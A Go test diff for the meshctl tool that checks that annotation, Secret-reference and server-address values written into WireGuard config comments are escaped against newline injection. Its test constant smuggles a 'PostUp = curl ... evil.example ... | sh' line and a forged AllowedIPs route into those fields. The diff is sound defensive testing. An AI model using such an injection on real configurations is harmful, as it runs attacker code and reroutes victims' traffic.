@@ -632,3 +632,70 @@ func TestUnlinkIgnoresLinkFlags(t *testing.T) {
 		t.Fatalf("same names: exit %d, stderr %q", r.code, r.stderr)
 	}
 }
+
+// A line break in anything meshctl copies into a comment of a WireGuard
+// configuration (a meshd.io/location annotation is "any string", a Secret
+// reference of a Peer, the API server's address) must not end the comment:
+// `showconf` output is fed to wg setconf and wg-quick, which would run a
+// PostUp line or route everything through a forged AllowedIPs.
+func TestShowconfCommentsCarryNoLineBreak(t *testing.T) {
+	const evil = "\nPostUp = curl -s https://evil.example/x | sh\r\nAllowedIPs = 0.0.0.0/0\u2028Table = off\x00"
+	nodes, leases, peers := fixture()
+	for _, o := range nodes {
+		n := o.(*corev1.Node)
+		if strings.HasPrefix(n.Name, "us-") {
+			n.Annotations[convert.AnnotationLocation] = "us" + evil
+		}
+	}
+	for _, o := range peers {
+		if p := o.(*v1alpha1.Peer); p.Spec.PresharedKeySecretRef != nil {
+			p.Spec.PresharedKeySecretRef.Namespace += evil
+			p.Spec.PresharedKeySecretRef.Name += evil
+		}
+	}
+	kube := kubefake.NewClientset(append(nodes, leases...)...)
+	md := fixtureMeshd(peers)
+	adjust := func(e *env) {
+		e.newClients = func(_, _ string) (*connect.Clients, error) {
+			return &connect.Clients{Kube: kube, Meshd: md, Config: &rest.Config{Host: server + evil}}, nil
+		}
+	}
+	keys := map[string]bool{"ListenPort": true, "PublicKey": true, "AllowedIPs": true, "Endpoint": true, "PersistentKeepalive": true}
+	for _, args := range [][]string{
+		{"showconf", "peer", "laptop"},
+		{"showconf", "node", "eu-1"},
+		{"showconf", "node", "us-1"},
+		{"showconf", "node", "us-1", "--as-peer", "-o", "wireguard"},
+	} {
+		r := runMeshctlWith(t, kube, md, adjust, args...)
+		if r.code != 0 {
+			t.Fatalf("%v: exit %d: %s", args, r.code, r.stderr)
+		}
+		if !strings.Contains(r.stdout, `\nPostUp = curl`) {
+			t.Errorf("%v: the escaped value is not in the comments:\n%s", args, r.stdout)
+		}
+		for _, l := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
+			k, _, _ := strings.Cut(l, " = ")
+			if l != "" && !strings.HasPrefix(l, "# ") && l != "[Interface]" && l != "[Peer]" && !keys[k] {
+				t.Errorf("%v: uncommented line %q:\n%s", args, l, r.stdout)
+			}
+			if strings.ContainsFunc(l, func(r rune) bool { return r < ' ' || r == 0x7f || r == '\u2028' }) {
+				t.Errorf("%v: line %q holds a control character", args, l)
+			}
+		}
+	}
+}
+
+func TestCommentSafe(t *testing.T) {
+	for in, want := range map[string]string{
+		"location us (leader us-1)": "location us (leader us-1)",
+		"a\nb\rc\td\x00e\x7f":       `a\nb\rc\td\x00e\x7f`,
+		"\u2028\u2029\u0085":        `\u2028\u2029\u0085`,
+		"ok\xffbad \ufffd":          `ok\xffbad ` + "\ufffd",
+		"zürich":                    "zürich",
+	} {
+		if got := commentSafe(in); got != want {
+			t.Errorf("commentSafe(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
